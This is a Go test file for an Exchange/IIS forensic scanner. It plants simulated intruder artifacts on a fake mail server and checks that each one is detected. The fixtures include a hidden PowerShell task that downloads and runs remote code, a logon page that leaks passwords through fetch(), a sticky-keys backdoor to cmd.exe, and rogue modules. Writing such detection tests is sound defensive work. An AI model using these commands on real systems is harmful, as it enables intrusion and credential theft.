package main

import (
	"strings"
	"testing"

	"github.com/athar-forensics/athar"
	"github.com/athar-forensics/athar/internal/forge"
)

// healthyState is a mail server with what its owners added to it: an antivirus, a
// second factor, a backup, a request router, their own tasks and sites.
func healthyState(at athar.Time) forge.State {
	return forge.State{
		At: at,
		GlobalModules: []string{
			`<add name="ApplicationRequestRouting" image="%ProgramFiles%\IIS\Application Request Routing\requestRouter.dll" />`,
			`<add name="SophosWeb" image="C:\Program Files\Sophos\Sophos Endpoint\iismod.dll" />`,
			`<add name="oneagent" image="C:\Program Files\dynatrace\oneagent\agent\lib64\oneagentiis.dll" />`,
		},
		Sites:    []string{`<virtualDirectory path="/intranet" physicalPath="D:\sites\intranet" />`},
		Rewrites: []string{`<rule name="To HTTPS" stopProcessing="true"><match url="(.*)" /><action type="Redirect" url="https://{HTTP_HOST}/{R:1}" /></rule>`},
		Tasks: map[string]forge.TaskFile{
			"Clean IIS logs":    {Command: `powershell.exe`, Arguments: `-ExecutionPolicy Bypass -File C:\Scripts\Clean-IISLogs.ps1 -Path C:\inetpub\logs\LogFiles`, User: `EXAMPLE\administrator`},
			"Backup agent":      {Command: `C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Manager.exe`, Arguments: "/backup", User: "S-1-5-18"},
			"Status page":       {Command: `powershell.exe`, Arguments: `-Command "Invoke-WebRequest -UseBasicParsing https://status.example.test/ping | Out-Null"`, User: "S-1-5-18"},
			"OneDrive updater":  {Command: `C:\Users\administrator\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`, User: "S-1-5-21-1-2-3-500"},
			"Certificate renew": {Command: `C:\ProgramData\Contoso ACME\wacs.exe`, Arguments: "--renew", User: "S-1-5-18"},
		},
		Services: map[string]string{
			"VeeamTransportSvc": `"C:\Program Files (x86)\Veeam\Backup Transport\VeeamTransportSvc.exe"`,
			"SAVService":        `"C:\Program Files\Sophos\Sophos Endpoint\SAVService.exe"`,
		},
		Run:       map[string]string{"VMware User Process": `"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr`},
		UserRun:   map[string]string{"OneDrive": `"C:\Users\administrator\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`},
		Debuggers: map[string]string{"taskmgr.exe": `"C:\TOOLS\PROCEXP64.EXE"`},
	}
}

// A server with all of that raises nothing; what a person ought to look at stands
// as a lead.
func TestScenarioFilesHealthy(t *testing.T) {
	t.Parallel()
	at := on(2021, 3, 10, 9, 0, 0)
	s := newStory(t, 61)
	h := open(s)
	h.WebRoot(at)
	state := healthyState(at)
	h.System(state)
	before := scan(t, s.pack()).only()
	nothingFrom(t, before, athar.Probed)
	for i := range before.Findings {
		if f := &before.Findings[i]; f.Rule != "page-changed" {
			t.Errorf("%s: %v %s", f.Rule, f.Stage, clipped(f.Raw))
		}
	}

	// Products whose makers are not known here, and a page with an own logo.
	state.GlobalModules = append(state.GlobalModules, `<add name="Contoso" image="C:\Program Files\Contoso\Web Guard\guard.dll" />`)
	state.OwaModules = append(state.OwaModules, `<add name="SecondFactor" type="Contoso.Exchange.OwaModule, Contoso.Exchange, Version=2.1.0.0, Culture=neutral, PublicKeyToken=96b53bb83f6a1b2c" />`)
	state.Agents = append(state.Agents, `<agent name="Contoso Mail Guard" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgent" classFactory="Contoso.MailGuard.Factory" assemblyPath="C:\Program Files\Contoso\Mail Guard\agent.dll" enabled="true" />`)
	state.Rewrites = append(state.Rewrites, `<rule name="EEMS M1.1 PowerShell - inbound" stopProcessing="true"><match url=".*" /><conditions><add input="{UrlDecode:{REQUEST_URI}}" pattern="(?=.*autodiscover)(?=.*powershell)" /></conditions><action type="AbortRequest" /></rule>`)
	h.System(state)
	h.Leave("/owa/auth/logon.aspx", at, []byte(`<form id="logonForm" action="/owa/auth.owa"><img src="own-logo.png"><script>function clkLgn() { gbid("password").value = ""; logonForm.submit(); }</script>`))
	after := scan(t, s.pack()).only()
	nothingFrom(t, after, athar.Probed)
	for _, rule := range []string{"iis-module-third-party", "iis-managed-third-party", "agent-third-party", "iis-mitigation", "page-changed"} {
		if len(byRule(after, rule)) == 0 {
			t.Errorf("no lead of %s\n%s", rule, told(after))
		}
	}
	if after.Product == nil || !strings.HasPrefix(after.Product.Build, "15.1.2176.") {
		t.Errorf("product %+v", after.Product)
	}
}

// Each thing that intruders plant, one at a time, on that server.
func TestScenarioFilesPlanted(t *testing.T) {
	t.Parallel()
	at := on(2021, 3, 10, 9, 0, 0)
	auth := "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/"
	lsass := append([]byte("MDMP\x93\xa7\x00\x00"), forge.Wide(`C:\Windows\System32\lsass.exe`)...)
	for _, c := range []struct {
		name  string
		plant func(*forge.Host, *forge.State)
		rule  string
		stage athar.Stage
		still athar.Reply
	}{
		{"native module", func(_ *forge.Host, s *forge.State) {
			s.GlobalModules = append(s.GlobalModules, `<add name="HttpCacheSvc" image="C:\Windows\Temp\hcsvc.dll" />`)
		}, "iis-module-place", athar.Implanted, athar.Yes},
		{"managed module", func(_ *forge.Host, s *forge.State) {
			s.OwaModules = append(s.OwaModules, `<add name="ExtenderControlDesigner" type="ExtenderControlDesigner.M, ExtenderControlDesigner, Version=1.0.0.0, Culture=neutral, PublicKeyToken=0123456789abcdef" />`)
		}, "iis-module-family", athar.Implanted, athar.Yes},
		{"unsigned module", func(_ *forge.Host, s *forge.State) {
			s.OwaModules = append(s.OwaModules, `<add name="Session" type="Web.Store, SessionStore" />`)
		}, "iis-managed-unsigned", athar.Implanted, athar.Yes},
		{"handler", func(_ *forge.Host, s *forge.State) {
			s.OwaHandlers = append(s.OwaHandlers, `<add name="img" path="*.png" verb="*" type="System.Web.UI.PageHandlerFactory" />`)
		}, "iis-handler-static", athar.Implanted, athar.Yes},
		{"virtual directory", func(_ *forge.Host, s *forge.State) {
			s.Sites = append(s.Sites, `<virtualDirectory path="/auth" physicalPath="C:\ProgramData\COM1\zing" />`)
		}, "iis-vdir-place", athar.Implanted, athar.Yes},
		{"transport agent", func(_ *forge.Host, s *forge.State) {
			s.Agents = append(s.Agents, `<agent name="Routing Helper" baseType="x" classFactory="Helper.Factory" assemblyPath="C:\ProgramData\helper.dll" enabled="true" />`)
		}, "agent-place", athar.Implanted, athar.Yes},
		{"task", func(_ *forge.Host, s *forge.State) {
			s.Tasks["VSPerfMon"] = forge.TaskFile{Command: `C:\ProgramData\VSPerfMon.exe`, User: "S-1-5-18"}
		}, "autostart-place", athar.Implanted, athar.Yes},
		{"task that fetches", func(_ *forge.Host, s *forge.State) {
			s.Tasks["blackball"] = forge.TaskFile{Command: "powershell", Arguments: `-w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.jsp')"`, User: "S-1-5-18"}
		}, "autostart-fetch", athar.Implanted, athar.Yes},
		{"hidden task", func(_ *forge.Host, s *forge.State) {
			s.Hidden = map[string]forge.TaskFile{"WinUpdate": {Command: `C:\Windows\System32\upd.exe`}}
		}, "task-hidden", athar.Implanted, athar.Yes},
		{"service", func(_ *forge.Host, s *forge.State) { s.Services["msupdate"] = `C:\Windows\Temp\msu.exe` }, "autostart-place", athar.Implanted, athar.Yes},
		{"run key", func(_ *forge.Host, s *forge.State) { s.UserRun["u"] = `rundll32.exe C:\Users\Public\u.dll,Start` }, "autostart-place", athar.Implanted, athar.Yes},
		{"logon screen", func(_ *forge.Host, s *forge.State) { s.Debuggers["sethc.exe"] = `C:\Windows\System32\cmd.exe` }, "autostart-logon-screen", athar.Implanted, athar.Yes},
		{"compiled page", func(_ *forge.Host, s *forge.State) { s.Compiled = []string{"/owa/auth/standin.aspx"} }, "compiled-foreign", athar.Implanted, athar.Unsure},
		{"page in the table", func(_ *forge.Host, s *forge.State) {
			s.Table = []forge.TableFile{{Path: auth + "standin.aspx", Born: at - athar.Day, Claims: at - 900*athar.Day}}
		}, "mft-page", athar.Implanted, athar.Yes},
		{"page gone from the table", func(_ *forge.Host, s *forge.State) {
			s.Table = []forge.TableFile{{Path: auth + "standin.aspx", Born: at - athar.Day, Claims: at - athar.Day, Gone: true}}
		}, "mft-page-gone", athar.Implanted, athar.Unsure},
		{"page", func(h *forge.Host, _ *forge.State) {
			h.Leave("/owa/auth/standin.aspx", at, []byte("Assembly.Load Request.BinaryRead CreateDecryptor"))
		}, "shell_loads_code", athar.Implanted, athar.Yes},
		{"logon page", func(h *forge.Host, _ *forge.State) {
			h.Leave("/owa/auth/logon.aspx", at, []byte(`clkLgn logonForm; fetch("/x?" + gbid("password").value)`))
		}, "logon_page_tells_passwords", athar.Implanted, athar.Yes},
		{"dump", func(h *forge.Host, _ *forge.State) { h.Leave("/owa/auth/logo.gif", at, lsass) }, "dump-lsass", athar.Expanded, athar.Unsure},
		{"archive", func(h *forge.Host, _ *forge.State) {
			h.Leave("/aspnet_client/it.7z", at, []byte("7z\xBC\xAF\x27\x1C\x00\x04"))
		}, "staged-among-pages", athar.Controlled, athar.Unsure},
		{"static key", func(h *forge.Host, _ *forge.State) {
			h.Put(forge.DefaultInstall+`\ClientAccess\ecp\web.config`, at, []byte(`<configuration><system.web><machineKey validationKey="CB2721ABDAF8E9DC516D621D8B8BF13A2C9E8689A25303BF" /></system.web></configuration>`))
		}, "iis-static-key", athar.Exposed, athar.Unsure},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			s := newStory(t, 62)
			h := open(s)
			h.WebRoot(at)
			state := healthyState(at)
			c.plant(h, &state)
			h.System(state)
			srv := scan(t, s.pack(without("Logging/", "LogFiles/"), keepOnly("MAIL01"))).only()
			if srv.Name != "MAIL01" {
				t.Errorf("the hive names %s", srv.Name)
			}
			found := byRule(srv, c.rule)
			if len(found) == 0 {
				t.Fatalf("not found\n%s", told(srv))
			}
			for i := range srv.Findings {
				if f := &srv.Findings[i]; f.Rule != c.rule && f.Stage > athar.NoStage {
					t.Errorf("also %s says %v of %s", f.Rule, f.Stage, clipped(f.Raw))
				}
			}
			if found[0].Stage != c.stage || c.stage > athar.Exposed && srv.Stage != c.stage {
				t.Errorf("stage %v, server %v", found[0].Stage, srv.Stage)
			}
			if srv.Answers.StillThere.Answer != c.still {
				t.Errorf("still there: %s\n%s", srv.Answers.StillThere.Answer, told(srv))
			}
		})
	}
}

// What lay ready and was asked for with success was taken.
func TestScenarioFilesFetched(t *testing.T) {
	t.Parallel()
	at := on(2021, 3, 3, 3, 0, 0)
	s := newStory(t, 63)
	h := open(s)
	h.Leave("/aspnet_client/it.7z", at, []byte("7z\xBC\xAF\x27\x1C\x00\x04"))
	h.Look(at+athar.Hour, forge.Visitor{Address: "203.0.113.66", Agent: "curl/7.68.0"}, forge.Shell{URL: "/aspnet_client/it.7z"}, true)
	srv := scan(t, s.pack()).only()
	wantStage(t, srv, athar.Exfiltrated)
	if f := oneOf(t, srv, "staged-fetched"); len(f.IP) == 0 || f.IP[0] != "203.0.113.66" {
		t.Errorf("%+v", f)
	}
	if srv.Answers.Taken.Answer != athar.Yes {
		t.Errorf("taken: %s", srv.Answers.Taken.Answer)
	}
}
